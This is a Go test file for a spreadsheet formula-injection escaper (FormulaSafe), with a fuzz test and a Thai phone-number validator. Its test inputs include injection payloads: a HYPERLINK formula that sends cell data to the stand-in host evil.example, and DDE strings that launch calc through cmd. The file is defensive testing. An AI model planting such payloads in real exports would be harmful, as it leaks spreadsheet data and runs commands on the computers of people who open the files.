package data

import (
	"strings"
	"testing"
)

func TestFormulaSafe(t *testing.T) {
	for s, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?d="&A1,"คลิก")`: `'=HYPERLINK("http://evil.example/?d="&A1,"คลิก")`,
		"=1+1":                  "'=1+1",
		"@SUM(A1:A9)":           "'@SUM(A1:A9)",
		"+cmd|' /C calc'!A0":    "'+cmd|' /C calc'!A0",
		"-2+3+cmd|' /C calc'!A": "'-2+3+cmd|' /C calc'!A",
		"\t=1+1":                "'\t=1+1",
		"\r=1+1":                "'\r=1+1",
		"＝1+1":                  "'＝1+1",
		"＋HYPERLINK(1)":         "'＋HYPERLINK(1)",
		"－ไม่มี":                "'－ไม่มี",
		"＠SUM(1)":               "'＠SUM(1)",
		"-ไม่มี":                "'-ไม่มี",
		"'=1+1":                 "''=1+1",
		// Left as written: no formula can start here.
		"+66 81 234 5678": "+66 81 234 5678",
		"-":               "-",
		"- 5":             "- 5",
		"-12.50":          "-12.50",
		"สมชาย":           "สมชาย",
		"ซ่อมหลังคา = 5,000 บาท": "ซ่อมหลังคา = 5,000 บาท",
		" =1":  " =1",
		"'":    "'",
		"'abc": "'abc",
		"":     "",
	} {
		if got := FormulaSafe(s); got != want {
			t.Errorf("FormulaSafe(%q) = %q, want %q", s, got, want)
		}
		if back := FromFormulaSafe(FormulaSafe(s)); back != s {
			t.Errorf("FromFormulaSafe(FormulaSafe(%q)) = %q", s, back)
		}
	}
}

// Whatever the text, what is written never starts a formula, and reading
// it back gives the text.
func FuzzFormulaSafe(f *testing.F) {
	for _, s := range []string{"=1", "+1", "-ก", "'=", "''@", "＝", "\t", "ok"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		w := FormulaSafe(s)
		if r, _ := firstRune(w); strings.ContainsRune("=@\t\r\n＝＠", r) || NeedsFormulaGuard(w) && !strings.HasPrefix(w, FormulaGuard) {
			t.Fatalf("FormulaSafe(%q) = %q starts a formula", s, w)
		}
		if back := FromFormulaSafe(w); back != s {
			t.Fatalf("FromFormulaSafe(FormulaSafe(%q)) = %q", s, back)
		}
	})
}

func TestNormalizePhone(t *testing.T) {
	for s, want := range map[string]string{
		"081-234-5678":               "081-234-5678",
		"๐๘๑ ๒๓๔ ๕๖๗๘":               "081 234 5678",
		"+66 81 234 5678":            "+66 81 234 5678",
		"081-2345678, 042-123456":    "081-2345678, 042-123456",
		"(042) 123456 ต่อ 12":        "(042) 123456 ต่อ 12",
		"081-234-5678 / 089-1234567": "081-234-5678 / 089-1234567",
		"":                           "",
		"-":                          "-",
		"ไม่มี":                      "ไม่มี",
	} {
		if got, err := NormalizePhone(s); err != nil || got != want {
			t.Errorf("NormalizePhone(%q) = %q, %v; want %q", s, got, err, want)
		}
	}
	for _, s := range []string{
		`=HYPERLINK("http://evil.example","081")`, "+cmd|' /C calc'!A0", "081-234-5678 (ลูกสาว)", "โทร 0812345678",
		"12", strings.Repeat("081-234-5678, ", 5),
	} {
		if got, err := NormalizePhone(s); err == nil || ErrorCode(err) != EINVALID || !strings.Contains(ErrorMessage(err), "โทรศัพท์") {
			t.Errorf("NormalizePhone(%q) = %q, %v", s, got, err)
		}
	}
}
